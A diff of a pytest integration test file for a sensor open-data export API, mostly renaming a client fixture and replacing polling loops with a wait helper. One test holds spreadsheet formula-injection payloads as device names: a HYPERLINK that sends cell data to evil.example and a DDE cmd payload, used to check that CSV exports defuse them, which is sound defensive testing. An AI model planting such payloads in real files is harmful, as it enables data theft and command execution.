@@ -19,13 +19,9 @@ import pytest
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
-from ingest.codecs.registry import CodecRegistry
-from ingest.registry import seed_zones
-from ioc_api.app import create_app
-from ioc_core.catalogue import DeviceCatalogue
-from ioc_core.settings import ApiSettings, DatabaseSettings, OpenDataSettings
-from ioc_core.zones import load_default_zones
-from tests.api_support import HAI_CHAU, SON_TRA, Raw, device, ingest, key, lpp, raw_request
+from ioc_core.settings import ApiSettings, OpenDataSettings
+from tests.api_support import HAI_CHAU, SON_TRA, Raw, app_for, device, ingest, key, lpp, raw_request
+from tests.waiting import wait_for
 
 pytestmark = [pytest.mark.integration, pytest.mark.both_modes]
 
@@ -53,23 +49,15 @@ SECRET = "s3cret"
 
 
 def _app(db_url: str, api: ApiSettings | None = None, **open_data: Any) -> FastAPI:
-    with psycopg.connect(db_url, autocommit=True) as conn:
-        seed_zones(conn, load_default_zones())
-    catalogue = DeviceCatalogue.of((i.id, i.models) for i in CodecRegistry.discover().infos())
+    """The API with open-data limits high enough to stay out of the way, unless ``open_data`` sets them."""
     limits = {"rate_per_minute": 60_000, "rate_burst": 10_000, **open_data}
-    return create_app(DatabaseSettings(url=db_url), api, catalogue=catalogue,  # type: ignore[arg-type]
-                      open_data=OpenDataSettings(**limits), background_poll_s=3600.0)
+    return app_for(db_url, api=api, open_data=OpenDataSettings(**limits))
 
 
 @pytest.fixture
-def client(db_url: str) -> Iterator[TestClient]:
-    with TestClient(_app(db_url)) as test_client:
-        yield test_client
-
-
-@pytest.fixture
-def admin(db_url: str) -> dict[str, str]:
-    return key(db_url, "root", "admin")
+def api_client(db_url: str) -> Iterator[TestClient]:
+    with TestClient(_app(db_url)) as client:
+        yield client
 
 
 @pytest.fixture
@@ -90,7 +78,7 @@ def _add_ward(db_url: str) -> None:
 
 
 @pytest.fixture
-def fleet(client: TestClient, admin: dict[str, str], db_url: str) -> None:
+def fleet(api_client: TestClient, admin: dict[str, str], db_url: str) -> None:
     """Six devices, each with 24 hours of frames through the ingest; one private, one decommissioned after."""
     _add_ward(db_url)
     secrets = {"tags": {"owner": SECRET}, "description": f"{SECRET} description", "join_eui": "70b3d57ed0000000",
@@ -100,16 +88,16 @@ def fleet(client: TestClient, admin: dict[str, str], db_url: str) -> None:
               device(AIR, HAI_CHAU, kind="air_quality", name="AQ chợ Hàn"),
               device(PRIVATE, HAI_CHAU, public=False), device(RETIRED, SON_TRA)]
     for body in bodies:
-        response = client.post("/api/v1/devices", headers=admin, json=body)
+        response = api_client.post("/api/v1/devices", headers=admin, json=body)
         assert response.status_code == 201, response.text
-    assert client.get(f"/api/v1/devices/{PUBLIC_WARD}", headers=admin).json()["zone"]["code"] == "thach-thang"
+    assert api_client.get(f"/api/v1/devices/{PUBLIC_WARD}", headers=admin).json()["zone"]["code"] == "thach-thang"
     frames: list[Any] = []
     for n, eui in enumerate(sorted({*PUBLISHED, PRIVATE, RETIRED})):
         for i in range(FRAMES):
             when = LAST - timedelta(minutes=15 * (FRAMES - 1 - i), seconds=n)
             frames.append((eui, i + 1, lpp(20 + n + (i % 40) / 10, 40 + n + i % 20), when))
     ingest(db_url, frames)
-    assert client.delete(f"/api/v1/devices/{RETIRED}", headers=admin).status_code == 200
+    assert api_client.delete(f"/api/v1/devices/{RETIRED}", headers=admin).status_code == 200
 
 
 def _csv(response: Any) -> list[dict[str, str]]:
@@ -130,9 +118,9 @@ def _error(response: Any, status: int) -> dict[str, Any]:
     return error
 
 
-def test_csv_export_holds_published_devices_only(client: TestClient, developer: dict[str, str],
+def test_csv_export_holds_published_devices_only(api_client: TestClient, developer: dict[str, str],
                                                  fleet: None) -> None:
-    response = client.get(URL, headers=developer, params=SPAN)
+    response = api_client.get(URL, headers=developer, params=SPAN)
     assert response.text.splitlines()[0] == ",".join(COLUMNS)
     assert response.headers["content-disposition"] == 'attachment; filename="ioc-open-data-all-all-raw.csv"'
     rows = _csv(response)
@@ -150,9 +138,9 @@ def test_csv_export_holds_published_devices_only(client: TestClient, developer: 
     assert datetime.fromisoformat(first["time"]) == LAST - timedelta(minutes=15 * (FRAMES - 1))
 
 
-def test_each_filter_narrows_the_export(client: TestClient, developer: dict[str, str], fleet: None) -> None:
+def test_each_filter_narrows_the_export(api_client: TestClient, developer: dict[str, str], fleet: None) -> None:
     def devices(**filters: str) -> set[str]:
-        return {r["dev_eui"] for r in _csv(client.get(URL, headers=developer, params={**SPAN, **filters}))}
+        return {r["dev_eui"] for r in _csv(api_client.get(URL, headers=developer, params={**SPAN, **filters}))}
 
     assert devices(zone="hai-chau") == {PUBLIC_HC, PUBLIC_WARD, AIR}  # a district includes its wards
     assert devices(zone="thach-thang") == {PUBLIC_WARD}
@@ -162,55 +150,55 @@ def test_each_filter_narrows_the_export(client: TestClient, developer: dict[str,
     assert devices(kind="temperature_humidity", zone="hai-chau") == {PUBLIC_HC, PUBLIC_WARD}
     assert devices(dev_eui=PUBLIC_ST.upper()) == {PUBLIC_ST}
     assert devices(dev_eui=PUBLIC_ST, zone="hai-chau") == set()
-    humidity = _csv(client.get(URL, headers=developer, params={**SPAN, "metric": "humidity"}))
+    humidity = _csv(api_client.get(URL, headers=developer, params={**SPAN, "metric": "humidity"}))
     assert {r["metric"] for r in humidity} == {"humidity"} and len(humidity) == len(PUBLISHED) * FRAMES
     window = {"from": (LAST - timedelta(hours=1)).isoformat(), "to": LAST.isoformat()}
-    recent = _csv(client.get(URL, headers=developer, params={**window, "dev_eui": PUBLIC_HC}))
+    recent = _csv(api_client.get(URL, headers=developer, params={**window, "dev_eui": PUBLIC_HC}))
     assert len(recent) == 2 * 4  # frames at LAST-60, -45, -30, -15 minutes; LAST itself is 'to', excluded
-    default = _csv(client.get(URL, headers=developer, params={"dev_eui": PUBLIC_HC}))
+    default = _csv(api_client.get(URL, headers=developer, params={"dev_eui": PUBLIC_HC}))
     assert len(default) == 2 * FRAMES  # the last 24 hours
 
 
-def test_json_lines_carry_the_same_rows_as_csv(client: TestClient, developer: dict[str, str], fleet: None) -> None:
+def test_json_lines_carry_the_same_rows_as_csv(api_client: TestClient, developer: dict[str, str], fleet: None) -> None:
     params = {**SPAN, "zone": "hai-chau"}
-    rows = _csv(client.get(URL, headers=developer, params=params))
-    response = client.get(URL, headers=developer, params={**params, "format": "json"})
+    rows = _csv(api_client.get(URL, headers=developer, params=params))
+    response = api_client.get(URL, headers=developer, params={**params, "format": "json"})
     assert response.headers["content-disposition"].endswith('-hai-chau-all-raw.ndjson"')
     lines = _lines(response)
     assert [list(line) for line in lines[:1]] == [COLUMNS]
     assert [{**r, "value": float(r["value"])} for r in rows] == lines
     assert SECRET not in response.text
-    bucketed = _lines(client.get(URL, headers=developer, params={**params, "format": "json", "bucket": "1h"}))
+    bucketed = _lines(api_client.get(URL, headers=developer, params={**params, "format": "json", "bucket": "1h"}))
     assert list(bucketed[0]) == [*COLUMNS, "min", "max", "n"]
     assert all(line["min"] <= line["value"] <= line["max"] for line in bucketed)
 
 
-def test_hourly_and_daily_exports_are_the_means_of_the_raw_rows(client: TestClient, developer: dict[str, str],
+def test_hourly_and_daily_exports_are_the_means_of_the_raw_rows(api_client: TestClient, developer: dict[str, str],
                                                                  fleet: None) -> None:
-    raw = _csv(client.get(URL, headers=developer, params=SPAN))
+    raw = _csv(api_client.get(URL, headers=developer, params=SPAN))
     by_hour: dict[tuple[str, str, datetime], list[float]] = defaultdict(list)
     for r in raw:
         hour = datetime.fromisoformat(r["time"]).replace(minute=0, second=0, microsecond=0)
         by_hour[(r["dev_eui"], r["metric"], hour)].append(float(r["value"]))
-    hourly = _csv(client.get(URL, headers=developer, params={**SPAN, "bucket": "1h"}))
+    hourly = _csv(api_client.get(URL, headers=developer, params={**SPAN, "bucket": "1h"}))
     assert list(hourly[0]) == [*COLUMNS, "min", "max", "n"]
     assert {(r["dev_eui"], r["metric"], datetime.fromisoformat(r["time"])): (
         pytest.approx(float(r["value"])), float(r["min"]), float(r["max"]), int(r["n"])) for r in hourly} == {
         k: (pytest.approx(sum(v) / len(v)), min(v), max(v), len(v)) for k, v in by_hour.items()}
-    daily = _csv(client.get(URL, headers=developer, params={**SPAN, "bucket": "1d"}))
+    daily = _csv(api_client.get(URL, headers=developer, params={**SPAN, "bucket": "1d"}))
     assert {datetime.fromisoformat(r["time"]).hour for r in daily} == {17}  # midnight in Da Nang
     assert sum(int(r["n"]) for r in daily) == len(raw)
     assert {r["zone"] for r in daily if r["dev_eui"] == PUBLIC_WARD} == {"thach-thang"}
 
 
-def test_private_and_retired_devices_never_appear(client: TestClient, admin: dict[str, str],
+def test_private_and_retired_devices_never_appear(api_client: TestClient, admin: dict[str, str],
                                                   developer: dict[str, str], fleet: None) -> None:
     for eui in (PRIVATE, RETIRED, "ffffffffffffffff"):
-        error = _error(client.get(URL, headers=developer, params={"dev_eui": eui}), 422)
+        error = _error(api_client.get(URL, headers=developer, params={"dev_eui": eui}), 422)
         assert error == {"code": "invalid", "message": f"no published device has DevEUI {eui}", "field": "dev_eui"}
-    assert client.patch(f"/api/v1/devices/{PUBLIC_ST}", headers=admin, json={"public": False}).status_code == 200
-    assert {r["dev_eui"] for r in _csv(client.get(URL, headers=developer, params=SPAN))} == PUBLISHED - {PUBLIC_ST}
-    catalogue = client.get(CATALOGUE, headers=developer).json()
+    assert api_client.patch(f"/api/v1/devices/{PUBLIC_ST}", headers=admin, json={"public": False}).status_code == 200
+    assert {r["dev_eui"] for r in _csv(api_client.get(URL, headers=developer, params=SPAN))} == PUBLISHED - {PUBLIC_ST}
+    catalogue = api_client.get(CATALOGUE, headers=developer).json()
     assert "son-tra/temperature_humidity" not in {d["dct:identifier"] for d in catalogue["dcat:dataset"]}
 
 
@@ -269,17 +257,17 @@ def test_the_catalogue_lists_a_dataset_per_kind_and_zone(db_url: str, developer:
         assert {r["dev_eui"] for r in _csv(client.get(path, headers=developer))} == {PUBLIC_HC, PUBLIC_WARD}
 
 
-def test_every_role_may_read_open_data_and_no_key_none(client: TestClient, db_url: str, fleet: None) -> None:
+def test_every_role_may_read_open_data_and_no_key_none(api_client: TestClient, db_url: str, fleet: None) -> None:
     for role, zones in (("operator", ["son-tra"]), ("technician", ["son-tra"]), ("admin", [])):
         caller = key(db_url, f"k-{role}", role, zones)
         # Zones limit what a key sees of the registry, not of public data.
-        assert {r["dev_eui"] for r in _csv(client.get(URL, headers=caller, params=SPAN))} == PUBLISHED
-        assert client.get(CATALOGUE, headers=caller).status_code == 200
+        assert {r["dev_eui"] for r in _csv(api_client.get(URL, headers=caller, params=SPAN))} == PUBLISHED
+        assert api_client.get(CATALOGUE, headers=caller).status_code == 200
     for url in (URL, CATALOGUE):
-        assert _error(client.get(url), 401)["code"] == "unauthorized"
-        assert client.get(url, headers={"Authorization": "Bearer ioc_nope"}).status_code == 401
+        assert _error(api_client.get(url), 401)["code"] == "unauthorized"
+        assert api_client.get(url, headers={"Authorization": "Bearer ioc_nope"}).status_code == 401
     developer = key(db_url, "dev-2", "developer")
-    assert client.get("/api/v1/devices", headers=developer).status_code == 403  # open data only
+    assert api_client.get("/api/v1/devices", headers=developer).status_code == 403  # open data only
 
 
 @pytest.mark.parametrize(
@@ -300,9 +288,9 @@ def test_every_role_may_read_open_data_and_no_key_none(client: TestClient, db_ur
         ({"from": "9999-12-31T23:00:00-23:00", "to": "9999-12-31T23:59:00Z"}, "from", "out of range"),
     ],
 )
-def test_bad_filters_are_422_naming_the_filter(client: TestClient, developer: dict[str, str], params: dict[str, str],
-                                               field: str, words: str) -> None:
-    error = _error(client.get(URL, headers=developer, params=params), 422)
+def test_bad_filters_are_422_naming_the_filter(api_client: TestClient, developer: dict[str, str],
+                                               params: dict[str, str], field: str, words: str) -> None:
+    error = _error(api_client.get(URL, headers=developer, params=params), 422)
     assert error["field"] == field and words in error["message"], error
 
 
@@ -340,10 +328,9 @@ def test_a_key_streams_a_bounded_number_of_exports_at_once(db_url: str, fleet: N
 
 def _settled(app: FastAPI) -> None:
     """Wait for the streams the client left to end on the server: their slots and connections given back."""
-    deadline = time.monotonic() + 5
-    while app.state.open_data.exports.running or _checked_out(app):
-        assert time.monotonic() < deadline, (app.state.open_data.exports.running, app.state.pool.get_stats())
-        time.sleep(0.01)
+    wait_for(lambda: not (app.state.open_data.exports.running or _checked_out(app)), timeout_s=5,
+             what=lambda: f"the streams to end: {app.state.open_data.exports.running}, {app.state.pool.get_stats()}",
+             interval_s=0.01)
 
 
 def _checked_out(app: FastAPI) -> int:
@@ -352,7 +339,7 @@ def _checked_out(app: FastAPI) -> int:
 
 
 @pytest.mark.slow
-def test_a_large_export_streams_in_many_chunks_in_little_memory(client: TestClient, developer: dict[str, str],
+def test_a_large_export_streams_in_many_chunks_in_little_memory(api_client: TestClient, developer: dict[str, str],
                                                                  db_url: str, fleet: None) -> None:
     """200,000 readings of one public device, straight into the table, read back as a stream."""
     start = NOW - timedelta(days=40)
@@ -367,7 +354,7 @@ def test_a_large_export_streams_in_many_chunks_in_little_memory(client: TestClie
     chunks = rows = size = largest = 0
     peak = 0
     began = time.monotonic()
-    with client.stream("GET", URL, headers=developer, params=params) as response:
+    with api_client.stream("GET", URL, headers=developer, params=params) as response:
         assert response.status_code == 200
         for chunk in response.iter_raw():
             if chunks == 0:
@@ -384,27 +371,27 @@ def test_a_large_export_streams_in_many_chunks_in_little_memory(client: TestClie
     assert chunks >= 200 and largest < 1000 * 120, (chunks, largest)  # 1,000 rows a chunk
     assert peak < 8 * 2**20, peak  # a window at a time: the whole export would take some 20 MB as text alone
     assert elapsed < 30, elapsed
-    # A client that leaves early: the rest is never read, the connections go back to the pool.
-    with client.stream("GET", URL, headers=developer, params=params) as response:
+    # A api_client that leaves early: the rest is never read, the connections go back to the pool.
+    with api_client.stream("GET", URL, headers=developer, params=params) as response:
         next(response.iter_raw())
-    _settled(client.app)  # type: ignore[arg-type]
+    _settled(api_client.app)  # type: ignore[arg-type]
 
 
 FORMULAS = {PUBLIC_HC: '=HYPERLINK("http://evil.example/?"&A1,"click")', PUBLIC_WARD: "+1+cmd|' /C calc'!A0",
             PUBLIC_ST: "-2+3", AIR: "@SUM(A1:A9)"}
 
 
-def test_csv_cells_a_spreadsheet_would_run_are_defused(client: TestClient, admin: dict[str, str],
+def test_csv_cells_a_spreadsheet_would_run_are_defused(api_client: TestClient, admin: dict[str, str],
                                                        developer: dict[str, str], fleet: None) -> None:
     """OWASP's CSV injection advice: a leading quote, and the cell quoted; JSON lines keep the names as they are."""
     for eui, name in FORMULAS.items():
-        assert client.patch(f"/api/v1/devices/{eui}", headers=admin, json={"name": name}).status_code == 200
-    response = client.get(URL, headers=developer, params=SPAN)
+        assert api_client.patch(f"/api/v1/devices/{eui}", headers=admin, json={"name": name}).status_code == 200
+    response = api_client.get(URL, headers=developer, params=SPAN)
     names = {r["dev_eui"]: r["device"] for r in _csv(response)}
     assert names == {eui: "'" + name for eui, name in FORMULAS.items()}
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in response.text
     assert all(not line.split(",")[2].startswith(("=", "+", "-", "@")) for line in response.text.splitlines())
-    lines = _lines(client.get(URL, headers=developer, params={**SPAN, "format": "json"}))
+    lines = _lines(api_client.get(URL, headers=developer, params={**SPAN, "format": "json"}))
     assert {r["dev_eui"]: r["device"] for r in lines} == FORMULAS
 
 
@@ -428,10 +415,8 @@ def test_clients_that_stop_reading_lose_their_exports_and_the_slots_come_back(db
         holders = [threading.Thread(target=hold, args=(h,)) for h in (first, second)]
         for t in holders:
             t.start()
-        deadline = time.monotonic() + 5
-        while app.state.open_data.exports.running < 2:
-            assert time.monotonic() < deadline
-            time.sleep(0.01)
+        wait_for(lambda: app.state.open_data.exports.running >= 2, timeout_s=5, what="both exports to start",
+                 interval_s=0.01)
         assert _error(client.get(URL, headers=third, params=SPAN), 429)  # both slots held by clients not reading
         for t in holders:
             t.join(20)
